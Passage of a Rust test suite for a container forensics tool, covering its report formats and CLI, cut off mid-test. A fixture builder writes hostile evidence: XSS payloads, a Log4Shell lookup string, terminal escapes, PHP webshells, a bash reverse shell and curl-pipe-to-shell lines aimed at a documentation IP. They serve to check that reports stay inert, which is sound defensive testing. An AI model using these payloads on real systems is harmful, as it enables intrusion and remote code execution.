//! Report formats: golden output per format on both samples, each exchange format read by
//! its consumer (Timesketch's documented columns, `mactime -b`, `sh -n` and `shellcheck`,
//! headless Chromium), hostile evidence that must stay inert everywhere, `scan --out` and
//! its manifest, and the CLI conventions (`--fail-on none`, case-insensitive values, broken
//! pipes, bad `--rules`, `--version`, completions and the man page).

use std::io::Read;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::Value;

use crate::image_build::Layer;
use crate::util::{bin, root, validate_against_schema, write_files};

/// Every `--format` of `scan` and the file `--out` gives it.
const FORMATS: &[(&str, &str)] = &[
    ("text", "report.txt"),
    ("json", "report.json"),
    ("jsonl", "records.jsonl"),
    ("timesketch-csv", "timesketch.csv"),
    ("timesketch-jsonl", "timesketch.jsonl"),
    ("bodyfile", "bodyfile.txt"),
    ("iocs-csv", "iocs.csv"),
    ("findings-csv", "findings.csv"),
    ("markdown", "summary.md"),
    ("html", "report.html"),
    ("sh", "plan.sh"),
];

const SAMPLES: &[&str] = &["dvwa", "log4shell"];

/// Run ctriage in the repository root (relative sample paths) with the run time pinned.
fn ctriage(args: &[&str]) -> Output {
    Command::new(bin())
        .args(args)
        .current_dir(root())
        .env("SOURCE_DATE_EPOCH", "1764547200")
        .env_remove("NO_COLOR")
        .env_remove("COLUMNS")
        .output()
        .expect("run ctriage")
}

/// What varies between machines and builds, replaced: the commit and the host name.
fn normalise(text: &str) -> String {
    let commit = String::from_utf8(ctriage(&["--version"]).stdout).unwrap();
    let commit =
        commit.split("(commit ").nth(1).and_then(|c| c.split(',').next()).unwrap_or("unknown").to_string();
    let host = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap_or_default().trim().to_string();
    let mut t = text.replace(&format!("\"commit\": \"{commit}\""), "\"commit\": \"<commit>\"");
    t = t.replace(&format!("\"commit\":\"{commit}\""), "\"commit\":\"<commit>\"");
    if !host.is_empty() {
        t = t.replace(&format!("\"host\": \"{host}\""), "\"host\": \"<host>\"");
    }
    t
}

#[test]
fn golden_output_per_format_on_both_samples() {
    let update = std::env::var_os("UPDATE_GOLDEN").is_some();
    let mut stale = vec![];
    for sample in SAMPLES {
        for (format, file) in FORMATS {
            let out =
                ctriage(&["scan", &format!("samples/{sample}"), "-f", format, "-q", "--fail-on", "none"]);
            assert_eq!(
                out.status.code(),
                Some(0),
                "{sample} {format}: {}",
                String::from_utf8_lossy(&out.stderr)
            );
            let got = normalise(&String::from_utf8(out.stdout).expect("UTF-8 output"));
            let path = root().join("tests/data/golden").join(sample).join(file);
            if update {
                std::fs::create_dir_all(path.parent().unwrap()).unwrap();
                std::fs::write(&path, &got).unwrap();
                continue;
            }
            let want = std::fs::read_to_string(&path)
                .unwrap_or_else(|_| panic!("missing {}: run with UPDATE_GOLDEN=1", path.display()));
            if got != want {
                stale.push(format!("{sample}/{file}"));
            }
        }
    }
    assert!(
        stale.is_empty(),
        "output differs from tests/data/golden for {stale:?} (UPDATE_GOLDEN=1 rewrites)"
    );
}

#[test]
fn out_dir_writes_every_format_and_a_manifest_of_hashes() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("case");
    let o = ctriage(&["scan", "samples/log4shell", "--out", out.to_str().unwrap(), "-q"]);
    assert_eq!(
        o.status.code(),
        Some(1),
        "a critical finding sets bit 0: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    let manifest: Value = serde_json::from_slice(&std::fs::read(out.join("manifest.json")).unwrap()).unwrap();
    let outputs = manifest["outputs"].as_array().unwrap();
    assert_eq!(outputs.len(), FORMATS.len());
    for (format, file) in FORMATS {
        let entry =
            outputs.iter().find(|e| e["file"] == *file).unwrap_or_else(|| panic!("{file} in manifest"));
        let bytes = std::fs::read(out.join(file)).unwrap();
        assert_eq!(entry["sha256"], crate::util::sha256_file(&out.join(file)), "{file}");
        assert_eq!(entry["bytes"], bytes.len() as u64, "{file}");
        // The same bytes as `scan -f FORMAT` (the terminal report is plain in a file).
        let alone = ctriage(&["scan", "samples/log4shell", "-f", format, "-q"]);
        if *format != "json" {
            assert_eq!(alone.stdout, bytes, "{file} differs from -f {format}");
        }
    }
    let inputs = manifest["inputs"].as_array().unwrap();
    let export = inputs.iter().find(|i| i["artifact"] == "export.tar").expect("export.tar among the inputs");
    assert_eq!(export["sha256"], crate::util::sha256_file(&root().join("samples/log4shell/export.tar")));
    assert_eq!(manifest["start"], "2025-12-01T00:00:00.000000000Z");
    assert_eq!(manifest["end"], "2025-12-01T00:00:00.000000000Z");
    assert_eq!(manifest["tool"]["version"], env!("CARGO_PKG_VERSION"));
    let args: Vec<&str> =
        manifest["arguments"].as_array().unwrap().iter().map(|a| a.as_str().unwrap()).collect();
    assert_eq!(args[..2], ["scan", "samples/log4shell"]);
    let report: Value = serde_json::from_slice(&std::fs::read(out.join("report.json")).unwrap()).unwrap();
    validate_against_schema(&report);
    // Standard output holds the verdicts and where each file went.
    let printed = String::from_utf8_lossy(&o.stdout);
    assert!(printed.contains("== Verdict: ") && printed.contains("COMPROMISED"), "{printed}");
    for (_, file) in FORMATS.iter().chain(&[("", "manifest.json")]) {
        let line = format!("{} (", out.join(file).display());
        assert!(printed.contains(&line), "{file} listed: {printed}");
    }
    // The folder now holds files: refused (exit 64, nothing replaced) unless --force.
    let before = std::fs::read(out.join("manifest.json")).unwrap();
    let again = ctriage(&["scan", "samples/dvwa", "--out", out.to_str().unwrap(), "-q"]);
    assert_eq!(again.status.code(), Some(64));
    assert!(String::from_utf8_lossy(&again.stderr).contains("not empty"), "the refusal says why");
    assert_eq!(std::fs::read(out.join("manifest.json")).unwrap(), before, "nothing replaced");
    let forced = ctriage(&["scan", "samples/dvwa", "--out", out.to_str().unwrap(), "-q", "--force"]);
    assert_eq!(forced.status.code(), Some(1));
    assert_ne!(std::fs::read(out.join("manifest.json")).unwrap(), before, "--force writes");
}

/// Timesketch's documented contract: a header, `message`, `datetime` (ISO 8601) and
/// `timestamp_desc` in every row, never empty; our `timestamp` is the same instant in µs.
#[test]
fn timesketch_csv_and_jsonl_follow_the_documented_columns() {
    for sample in SAMPLES {
        let csv_out = ctriage(&["scan", &format!("samples/{sample}"), "-f", "timesketch-csv", "-q"]).stdout;
        let mut r = csv::Reader::from_reader(csv_out.as_slice());
        let header: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
        assert_eq!(
            header,
            [
                "message",
                "datetime",
                "timestamp_desc",
                "timestamp",
                "source",
                "path",
                "rule",
                "severity",
                "container",
                "bundle"
            ]
        );
        let mut rows = 0;
        let mut findings = 0;
        let mut last = i64::MIN;
        for rec in r.records() {
            let rec = rec.unwrap();
            rows += 1;
            for (i, name) in ["message", "datetime", "timestamp_desc"].iter().enumerate() {
                assert!(!rec[i].is_empty(), "{sample}: empty {name} in {rec:?}");
            }
            let dt = &rec[1];
            assert!(dt.ends_with("+00:00") && dt.len() == 32, "{sample}: datetime {dt}");
            let parsed = ctriage_timestamp(dt);
            let micros: i64 = rec[3].parse().unwrap();
            assert_eq!(parsed, micros, "{sample}: timestamp and datetime disagree");
            assert!(micros > 0, "{sample}: no event without a real time: {rec:?}");
            assert!(micros >= last, "{sample}: events in time order");
            last = micros;
            assert_eq!(&rec[9], format!("samples/{sample}"));
            if &rec[4] == "ctriage:finding" {
                findings += 1;
                assert!(!rec[6].is_empty() && !rec[7].is_empty(), "a finding names its rule and severity");
            }
        }
        assert!(rows > 20 && findings > 3, "{sample}: {rows} rows, {findings} findings");
        let jsonl = ctriage(&["scan", &format!("samples/{sample}"), "-f", "timesketch-jsonl", "-q"]).stdout;
        let lines: Vec<Value> =
            String::from_utf8(jsonl).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
        assert_eq!(lines.len(), rows, "{sample}: as many JSONL events as CSV rows");
        for l in &lines {
            assert!(l["message"].is_string() && l["datetime"].is_string() && l["timestamp_desc"].is_string());
            assert!(l["timestamp"].is_i64());
        }
    }
}

/// µs since the epoch of `YYYY-MM-DDTHH:MM:SS.uuuuuu+00:00`, computed here independently.
fn ctriage_timestamp(dt: &str) -> i64 {
    let n = |a: usize, b: usize| dt[a..b].parse::<i64>().unwrap();
    let (y, m, d) = (n(0, 4), n(5, 7), n(8, 10));
    // Days from civil (Howard Hinnant's algorithm).
    let y2 = if m <= 2 { y - 1 } else { y };
    let era = y2.div_euclid(400);
    let yoe = y2 - era * 400;
    let doy = (153 * (if m > 2 { m - 3 } else { m + 9 }) + 2) / 5 + d - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    let days = era * 146_097 + doe - 719_468;
    let secs = days * 86_400 + n(11, 13) * 3600 + n(14, 16) * 60 + n(17, 19);
    secs * 1_000_000 + n(20, 26)
}

#[test]
fn jsonl_records_say_what_they_are_and_use_ecs_names() {
    let out = ctriage(&["scan", "samples/log4shell", "-f", "jsonl", "-q"]).stdout;
    let json = ctriage(&["scan", "samples/log4shell", "-f", "json", "-q"]).stdout;
    let report: Value = serde_json::from_slice(&json).unwrap();
    let b = &report["bundles"][0];
    let mut count = std::collections::BTreeMap::<String, usize>::new();
    for line in String::from_utf8(out).unwrap().lines() {
        let v: Value = serde_json::from_str(line).unwrap();
        let record = v["ctriage"]["record"].as_str().expect("ctriage.record").to_string();
        assert_eq!(v["ctriage"]["bundle"], "samples/log4shell");
        assert!(v["message"].is_string(), "{line}");
        match record.as_str() {
            "finding" => {
                assert!(v["rule"]["id"].is_string() && v["event"]["severity"].is_u64());
                assert_eq!(v["event"]["kind"], "alert");
            }
            "file-change" => assert!(v["file"]["path"].as_str().unwrap().starts_with('/')),
            "process" => assert!(v["process"]["pid"].is_u64() && v["process"]["command_line"].is_string()),
            "ioc" => assert!(v["threat"]["indicator"]["type"].is_string()),
            "log-hit" => assert!(v["rule"]["id"].as_str().unwrap().starts_with("log.")),
            _ => {}
        }
        // Every record has @timestamp; one without a time of its own says what stands in.
        let t = v["@timestamp"].as_str().unwrap_or_else(|| panic!("no @timestamp: {line}"));
        assert!(t.ends_with('Z'), "{line}");
        if matches!(record.as_str(), "verdict" | "artifact") {
            assert!(
                v["ctriage"]["timestamp_basis"].as_str().unwrap().starts_with("no time of its own"),
                "{line}"
            );
        }
        *count.entry(record).or_default() += 1;
    }
    let len = |k: &str| b[k].as_array().unwrap().len();
    assert_eq!(count["finding"], len("findings"));
    assert_eq!(count["log-hit"], len("log_hits"));
    assert_eq!(count["ioc"], len("iocs"));
    assert_eq!(count["timeline-event"], len("timeline"));
    assert_eq!(count["file-change"], len("file_changes"));
    assert_eq!(count["verdict"], len("verdicts"));
    assert_eq!(count["chain-stage"], len("chain"));
    assert_eq!(count["artifact"], len("artifacts"));
    assert!(count["process"] > 3);
}

#[test]
fn iocs_and_findings_csv_hold_every_row() {
    let json: Value =
        serde_json::from_slice(&ctriage(&["scan", "samples/dvwa", "-f", "json", "-q"]).stdout).unwrap();
    let b = &json["bundles"][0];
    let iocs = ctriage(&["scan", "samples/dvwa", "-f", "iocs-csv", "-q"]).stdout;
    let mut r = csv::Reader::from_reader(iocs.as_slice());
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), b["iocs"].as_array().unwrap().len());
    for (row, ioc) in rows.iter().zip(b["iocs"].as_array().unwrap()) {
        assert_eq!(&row[1], ioc["type"].as_str().unwrap());
        assert_eq!(&row[2], ioc["value"].as_str().unwrap());
    }
    let findings = ctriage(&["scan", "samples/dvwa", "-f", "findings-csv", "-q"]).stdout;
    let mut r = csv::Reader::from_reader(findings.as_slice());
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), b["findings"].as_array().unwrap().len());
    assert_eq!(&rows[0][2], b["findings"][0]["severity"].as_str().unwrap());
    assert_eq!(&rows[0][3], b["findings"][0]["rule"].as_str().unwrap());
}

/// On a terminal, `scan` and `logs` show progress on stderr by bundles, artifacts and bytes
/// read; `--quiet` and a stderr that is not a terminal show none. `script` (util-linux) gives
/// the binary a pseudo-terminal.
#[test]
#[ignore = "needs script (Debian package util-linux; .ci/run installs it)"]
fn progress_on_a_terminal_counts_bundles_artifacts_and_bytes() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("r.json");
    let under_tty = |cmd: String| {
        let o = Command::new("script")
            .args(["-qec", &cmd, "/dev/null"])
            .current_dir(root())
            .output()
            .expect("script not found: install it (Debian package util-linux)");
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    let bin = bin();
    let bin = bin.display();
    let shown = under_tty(format!("{bin} scan samples/log4shell samples/dvwa -f json -o {}", out.display()));
    assert!(shown.contains("scan") && shown.contains("bundles 0/2"), "{shown:?}");
    assert!(shown.contains("bundles 2/2 · 16 artifacts ("), "every artifact counted: {shown:?}");
    assert!(shown.contains(" · read "), "bytes read: {shown:?}");
    let logs = under_tty(format!("{bin} logs samples/log4shell/container.log -f json -o {}", out.display()));
    assert!(logs.contains("bundles 1/1 · 1 artifacts ("), "{logs:?}");
    let quiet = under_tty(format!("{bin} scan samples/dvwa -q -f json -o {}", out.display()));
    assert!(!quiet.contains("bundles"), "--quiet: {quiet:?}");
    // Not a terminal: nothing on stderr but diagnostics.
    let piped = ctriage(&["scan", "samples/dvwa", "-f", "json", "-o", out.to_str().unwrap()]);
    assert!(!String::from_utf8_lossy(&piped.stderr).contains("bundles"));
}

/// `mactime -b` (The Sleuth Kit) reads the bodyfile: every line, the webshell at its mtime.
#[test]
#[ignore = "needs mactime (Debian package sleuthkit; .ci/run installs it)"]
fn bodyfile_is_read_by_mactime() {
    let dir = tempfile::tempdir().unwrap();
    for sample in SAMPLES {
        let body = ctriage(&["scan", &format!("samples/{sample}"), "-f", "bodyfile", "-q"]).stdout;
        let text = String::from_utf8(body.clone()).unwrap();
        for line in text.lines() {
            assert_eq!(line.split('|').count(), 11, "{line}");
        }
        let path = dir.path().join(format!("{sample}.body"));
        std::fs::write(&path, &body).unwrap();
        let out = Command::new("mactime")
            .args(["-b", path.to_str().unwrap(), "-d", "-z", "UTC"])
            .output()
            .expect("mactime not found: install it (Debian package sleuthkit)");
        assert!(out.status.success(), "mactime failed: {}", String::from_utf8_lossy(&out.stderr));
        let timeline = String::from_utf8_lossy(&out.stdout).into_owned();
        let mut r = csv::ReaderBuilder::new().flexible(true).from_reader(timeline.as_bytes());
        let names: std::collections::BTreeSet<String> =
            r.records().map(|x| x.unwrap()).filter_map(|x| x.get(7).map(String::from)).collect();
        // mactime leaves out an entry whose four times are all 0 (no time known).
        let ours: std::collections::BTreeSet<String> = text
            .lines()
            .map(|l| l.split('|').collect::<Vec<_>>())
            .filter(|f| f[7..].iter().any(|t| *t != "0"))
            .map(|f| f[1].to_string())
            .collect();
        assert!(ours.len() > 20, "{sample}: {} timed files", ours.len());
        assert_eq!(names, ours, "{sample}: mactime lists every timed file of the bodyfile");
        let want = match *sample {
            "log4shell" => "Fri Nov 27 2026 14:24:40,",
            _ => "Fri Nov 27 2026",
        };
        let shell = match *sample {
            "log4shell" => "[export] /usr/local/tomcat/webapps/ROOT/assets/health.jsp",
            _ => "[export] /var/www/html/hackable/uploads/shell.php",
        };
        let line = timeline
            .lines()
            .find(|l| l.contains(shell) && l.contains(",m"))
            .unwrap_or_else(|| panic!("{sample}: {shell} with its mtime in mactime's timeline:\n{timeline}"));
        assert!(line.starts_with(want) || timeline.contains(want), "{sample}: {line}");
    }
}

/// The plan script: one `DATE`, no prompts, the veth index (asked of the kernel through
/// nsenter) through a file, every step commented; `sh -n` and `shellcheck` accept it.
#[test]
#[ignore = "needs shellcheck (Debian package; .ci/run installs it)"]
fn plan_scripts_pass_sh_n_and_shellcheck() {
    let dir = tempfile::tempdir().unwrap();
    let hostile = hostile_bundle(dir.path(), 9);
    let mut scripts = vec![];
    for sample in SAMPLES {
        let out = ctriage(&["plan", &format!("samples/{sample}")]);
        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
        let from_scan = ctriage(&["scan", &format!("samples/{sample}"), "-f", "sh", "-q"]).stdout;
        assert_eq!(out.stdout, from_scan, "plan and scan -f sh agree");
        scripts.push((sample.to_string(), String::from_utf8(out.stdout).unwrap()));
    }
    let out = ctriage(&["plan", hostile.to_str().unwrap(), "-q"]);
    scripts.push(("hostile".into(), String::from_utf8(out.stdout).unwrap()));
    for (name, s) in &scripts {
        assert!(s.starts_with("#!/bin/sh\n"), "{name}");
        assert_eq!(s.matches("DATE=$(date").count(), 1, "{name}: one DATE");
        assert!(!s.lines().any(|l| l.starts_with("$ ")), "{name}: no prompts");
        let code: Vec<&str> = s.lines().filter(|l| !l.starts_with('#')).collect();
        assert!(!code.iter().any(|l| l.split_whitespace().any(|w| w == "read")), "{name}: nothing asks");
        assert!(s.chars().all(|c| c == '\n' || !c.is_control()), "{name}: printable");
        let steps = s
            .lines()
            .filter(|l| {
                l.starts_with("# ") && l[2..].split_once(". ").is_some_and(|(n, _)| n.parse::<u32>().is_ok())
            })
            .count();
        let whys = s.lines().filter(|l| l.starts_with("# Why: ")).count();
        assert!(steps >= 5 && steps == whys, "{name}: {steps} steps, {whys} whys");
        if name != "hostile" {
            let saved = s
                .lines()
                .find(|l| l.contains(" -n ip -o link show eth0 > "))
                .expect("the container's eth0 asked of the kernel");
            let link = saved.rsplit("> ").next().unwrap();
            let saved = s
                .lines()
                .find(|l| l.starts_with("sed ") && l.contains(link) && l.ends_with(".iflink"))
                .expect("the veth index saved");
            let file = saved.rsplit("> ").next().unwrap();
            assert!(s.contains(&format!("$(cat {file})")), "{name}: {file} read back");
        }
        let path = dir.path().join(format!("{name}.sh"));
        std::fs::write(&path, s).unwrap();
        let n = Command::new("sh").arg("-n").arg(&path).output().unwrap();
        assert!(n.status.success(), "{name}: sh -n: {}", String::from_utf8_lossy(&n.stderr));
        let sc = Command::new("shellcheck")
            .args(["-s", "sh", path.to_str().unwrap()])
            .output()
            .expect("shellcheck not found: install it (Debian package shellcheck)");
        assert!(sc.status.success(), "{name}: shellcheck:\n{}\n{s}", String::from_utf8_lossy(&sc.stdout));
    }
}

/// Evidence whose log lines, file names and commands carry HTML, script, ANSI/OSC escapes
/// and bidi overrides, some pointing at `127.0.0.1:port` (a listener the test watches).
fn hostile_bundle(dir: &Path, port: u16) -> PathBuf {
    let b = dir.join("hostile");
    let img = format!("\"><img src=http://127.0.0.1:{port}/img onerror=document.documentElement.setAttribute('data-pwned','img')>");
    let script = format!("<script src=http://127.0.0.1:{port}/s.js></script><script>document.documentElement.setAttribute('data-pwned','script')</script>");
    let escapes = "\u{1b}]0;PWNED-TITLE\u{7}\u{1b}[2J\u{1b}[31mred\u{202e}gnp.exe";
    let log = format!(
        "203.0.113.9 - - [27/Nov/2026:12:00:01 +0000] \"GET /?q={script}${{jndi:ldap://203.0.113.9:1389/a}} HTTP/1.1\" 200 12 \"-\" \"{img}\"\n\
         203.0.113.9 - - [27/Nov/2026:12:00:02 +0000] \"GET /uploads/shell.php?cmd=id;{escapes} HTTP/1.1\" 200 40 \"-\" \"curl {img}\"\n\
         203.0.113.9 - - [27/Nov/2026:12:00:03 +0000] \"GET /cgi-bin/x?cmd=curl%20http%3A%2F%2F203.0.113.9%2Fs.sh%7Csh{script} HTTP/1.1\" 200 1 \"-\" \"x\"\n"
    );
    let inspect = r#"[{"Id":"ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12","Name":"/web",
        "State":{"Status":"running","Running":true,"Pid":4100,"StartedAt":"2026-11-27T10:00:00Z"},
        "Image":"sha256:aaaa","HostConfig":{"NetworkMode":"bridge","Privileged":true},
        "Config":{"Hostname":"web","Image":"web:1","Cmd":["apache2-foreground"],
        "Env":["DB_PASSWORD=hunter2"]},"NetworkSettings":{"Networks":{"bridge":{"IPAddress":"172.17.0.2"}}}}]"#;
    let top = format!(
        "UID PID PPID C STIME TTY TIME CMD\n\
         root 4100 4080 0 10:00 ? 00:00:01 apache2 -DFOREGROUND\n\
         www-data 4200 4100 0 12:00 ? 00:00:00 sh -c {script}{escapes}\n\
         www-data 4300 4200 0 12:00 ? 00:00:00 bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 {img}\n"
    );
    let export = Layer::new()
        .file("var/www/html/uploads/shell.php", b"<?php system($_GET['cmd']); ?>")
        .file(&format!("var/www/html/uploads/{}.php", img.replace('/', "_")), b"<?php eval($_POST['x']); ?>")
        .file(&format!("tmp/{}", escapes), b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n")
        .build();
    write_files(
        &b,
        &[
            ("inspect.json", inspect.as_bytes()),
            ("access.log", log.as_bytes()),
            ("top.txt", top.as_bytes()),
            ("export.tar", &export),
        ],
    );
    b
}

/// Attacker text never reaches a terminal, a spreadsheet or a page unescaped.
#[test]
fn hostile_evidence_stays_inert_in_every_text_format() {
    let dir = tempfile::tempdir().unwrap();
    let b = hostile_bundle(dir.path(), 9);
    let json: Value =
        serde_json::from_slice(&ctriage(&["scan", b.to_str().unwrap(), "-f", "json", "-q"]).stdout).unwrap();
    let text = serde_json::to_string(&json).unwrap();
    assert!(
        text.contains("<script>document.documentElement"),
        "the payload is in the evidence the report read"
    );
    for (format, _) in FORMATS {
        let out = ctriage(&["scan", b.to_str().unwrap(), "-f", format, "-q", "--color", "never"]).stdout;
        let s = String::from_utf8(out).unwrap();
        assert!(!s.contains('\u{1b}') && !s.contains('\u{7}'), "{format}: a raw escape");
        if !format.contains("json") {
            assert!(!s.contains('\u{202e}'), "{format}: a raw bidi override");
        }
        if *format == "html" || *format == "markdown" {
            assert!(!s.contains("<script>document") && !s.contains("<img src"), "{format}: raw markup");
        }
        if *format == "html" {
            assert!(s.contains("&lt;script&gt;document"), "{format}: the payload is shown, escaped");
        }
    }
}

/// Open `page` in headless Chromium and return the DOM after its scripts ran.
fn chromium(args: &[&str]) -> Output {
    let profile = tempfile::tempdir().unwrap();
    let mut cmd = Command::new("chromium");
    cmd.args([
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--no-first-run",
        "--disable-default-apps",
        "--virtual-time-budget=3000",
    ])
    .arg(format!("--user-data-dir={}", profile.path().display()))
    .args(args)
    .stdin(Stdio::null());
    cmd.output().expect("chromium not found: install it (Debian package chromium)")
}

/// The HTML timeline is the incident window (from the first act to the newest event); what
/// lies before it (dvwa's forged 2025 mtime, the image's build) is listed under the chart. The
/// findings table is reachable from the keyboard.
#[test]
fn html_timeline_zooms_to_the_incident_and_tables_take_the_keyboard() {
    let html = String::from_utf8(ctriage(&["scan", "samples/dvwa", "-f", "html", "-q"]).stdout).unwrap();
    let chart = &html[html.find("<svg class=\"chart\"").expect("a chart")..];
    let chart = &chart[..chart.find("</svg>").unwrap()];
    let labels: Vec<&str> = chart.split("text-anchor=\"end\">").collect();
    let last = labels.last().unwrap().split('<').next().unwrap();
    assert_eq!(last, "2026-11-27T15:41:07Z", "the window ends at the newest event");
    assert!(chart.contains(">2026-11-27T13:"), "the window opens near the first attempt (13:47): {chart}");
    assert!(!chart.contains("2025-01-15"), "the forged mtime is not on the axis");
    let outliers = &html[html.find("outside the incident window").expect("outliers listed")..];
    assert!(outliers.contains("2025-01-15T06:09:00Z"), "the forged mtime is listed apart");
    assert!(html.contains("th class=\"sortable\" scope=\"col\" tabindex=\"0\""), "headings take focus");
    assert!(html.contains("tabindex=\"0\""));
}

/// The HTML page in a real browser: ctriage's own script runs, no injected script does, and
/// nothing is fetched (a listener on the port the payloads name sees no connection).
#[test]
#[ignore = "needs chromium (Debian package; .ci/run installs it)"]
fn html_page_runs_no_injected_script_in_chromium() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let dir = tempfile::tempdir().unwrap();
    let b = hostile_bundle(dir.path(), port);
    let page = dir.path().join("report.html");
    let o = ctriage(&["scan", b.to_str().unwrap(), "-f", "html", "-o", page.to_str().unwrap(), "-q"]);
    assert!(page.exists(), "{}", String::from_utf8_lossy(&o.stderr));
    let html = std::fs::read_to_string(&page).unwrap();
    // Markup only (evidence text is escaped, so every `<` left starts a real tag): no tag
    // names a URL, a source or a link; the inline style and script name none either.
    let tags: Vec<&str> = html.split('<').skip(1).map(|t| t.split('>').next().unwrap_or("")).collect();
    for t in &tags {
        for bad in ["http:", "https:", "src=", "href=", "action=", "url(", "//"] {
            assert!(!t.contains(bad), "a tag names an external resource ({bad}): <{t}>");
        }
    }
    for inline in [html.split("<style>").nth(1).unwrap(), html.split("<script>").nth(1).unwrap()] {
        let body = inline.split("</").next().unwrap();
        for bad in ["http:", "https:", "url(", "@import", "fetch(", "XMLHttpRequest", "innerHTML"] {
            assert!(!body.contains(bad), "inline style or script names {bad}");
        }
    }
    let url = format!("file://{}", page.display());
    let dom = chromium(&["--dump-dom", &url]);
    let dom_text = String::from_utf8_lossy(&dom.stdout).into_owned();
    assert!(
        dom_text.contains("data-ready=\"1\""),
        "ctriage's own script ran:\n{}",
        String::from_utf8_lossy(&dom.stderr)
    );
    assert!(!dom_text.contains("data-pwned=\""), "an injected script ran");
    assert!(!dom_text.contains("<img"), "an injected element exists");
    assert!(dom_text.contains("<title>ctriage report</title>"));
    assert!(dom_text.contains("&lt;script"), "the payload is on the page, as text");
    let shot = root().join("target/report-hostile.png");
    let s = chromium(&["--window-size=1280,1600", &format!("--screenshot={}", shot.display()), &url]);
    assert!(shot.exists(), "screenshot: {}", String::from_utf8_lossy(&s.stderr));
    let samples = root().join("target/report-log4shell.html");
    ctriage(&["scan", "samples/log4shell", "-f", "html", "-o", samples.to_str().unwrap(), "-q"]);
    let shot = root().join("target/report-log4shell.png");
    chromium(&[
        "--window-size=1280,1800",
        &format!("--screenshot={}", shot.display()),
        &format!("file://{}", samples.display()),
    ]);
    assert!(shot.exists());
    // Printed: the page renders to PDF (the print style opens every proof).
    let pdf = root().join("target/report-log4shell.pdf");
    let _ = std::fs::remove_file(&pdf);
    chromium(&[
        "--no-pdf-header-footer",
        &format!("--print-to-pdf={}", pdf.display()),
        &format!("file://{}", samples.display()),
    ]);
    let bytes = std::fs::read(&pdf).expect("a PDF");
    assert!(bytes.starts_with(b"%PDF") && bytes.len() > 10_000, "{} bytes", bytes.len());
    let mut buf = [0u8; 1];
    match listener.accept() {
        Ok((mut c, _)) => {
            let _ = c.read(&mut buf);
            panic!("the browser made a network request to the payload's address");
        }
        Err(e) => assert_eq!(e.kind(), std::io::ErrorKind::WouldBlock),
    }
}

#[test]
fn cli_conventions() {
    // --fail-on none and case-insensitive values.
    let o = ctriage(&["scan", "samples/dvwa", "--fail-on", "none", "-f", "JSON", "-q"]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let o = ctriage(&["scan", "samples/dvwa", "--fail-on", "HIGH", "-f", "Text", "-q"]);
    assert_eq!(o.status.code(), Some(1));
    let o = ctriage(&["logs", "samples/log4shell/container.log", "--fail-on", "None", "-q"]);
    assert_eq!(o.status.code(), Some(0), "logs --fail-on none");
    let o = ctriage(&["logs", "samples/log4shell/container.log", "--fail-on", "Critical", "-q"]);
    assert_eq!(o.status.code(), Some(1), "logs --fail-on critical");
    // Bad rules: exit 64, one error a line.
    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("bad.rules");
    std::fs::write(&bad, "rule x\nseverity nope\n\nrule y\npattern (\n").unwrap();
    let o = ctriage(&["scan", "samples/dvwa", "--rules", bad.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(64));
    let err = String::from_utf8(o.stderr).unwrap();
    assert!(err.lines().count() >= 2 && err.lines().all(|l| l.starts_with("ctriage: error: ")), "{err}");
    // --version: commit, schema, rule counts.
    for flag in ["-V", "--version"] {
        let v = String::from_utf8(ctriage(&[flag]).stdout).unwrap();
        assert!(v.starts_with(&format!("ctriage {} (commit ", env!("CARGO_PKG_VERSION"))), "{v}");
        assert!(v.contains("report schema 3.0") && v.contains(" log, ") && v.contains(" file, "), "{v}");
    }
    // Completions and the man page.
    let c = ctriage(&["completions", "bash"]);
    assert!(String::from_utf8_lossy(&c.stdout).contains("ctriage"), "bash completion");
    let m = ctriage(&["man"]);
    let main_page = String::from_utf8_lossy(&m.stdout).into_owned();
    assert!(main_page.contains(".TH ctriage"), "man page");
    // The pages the main page points at (ctriage-scan(1)...) exist: one per command.
    let m = ctriage(&["man", "rules", "list"]);
    assert!(String::from_utf8_lossy(&m.stdout).contains(".TH ctriage-rules-list 1"), "man rules list");
    assert_eq!(ctriage(&["man", "nope"]).status.code(), Some(64));
    let pages = dir.path().join("man");
    assert_eq!(ctriage(&["man", "--dir", pages.to_str().unwrap()]).status.code(), Some(0));
    for name in ["ctriage.1", "ctriage-scan.1", "ctriage-logs.1", "ctriage-rules-check.1", "ctriage-plan.1"] {
        let page = std::fs::read_to_string(pages.join(name)).unwrap_or_else(|e| panic!("{name}: {e}"));
        assert!(page.contains(".SH NAME"), "{name}");
    }
    assert!(main_page.contains("ctriage\\-scan(1)"), "the main page names the scan page");
}

/// Run ctriage with its standard output read for one byte and then closed (`... | head -c 1`).
fn reader_closes_after_one_byte(args: &[&str]) -> Output {
    let mut child = Command::new(bin())
        .args(args)
        .current_dir(root())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = child.stdout.take().unwrap();
    let mut one = [0u8; 1];
    out.read_exact(&mut one).unwrap();
    drop(out);
    child.wait_with_output().unwrap()
}

/// `scan ... | head -1` exits 0 in every format: the closed pipe is no failure.
#[test]
fn broken_pipe_exits_zero_in_every_format() {
    for (format, _) in FORMATS {
        let o = reader_closes_after_one_byte(&[
            "scan",
            "samples/log4shell",
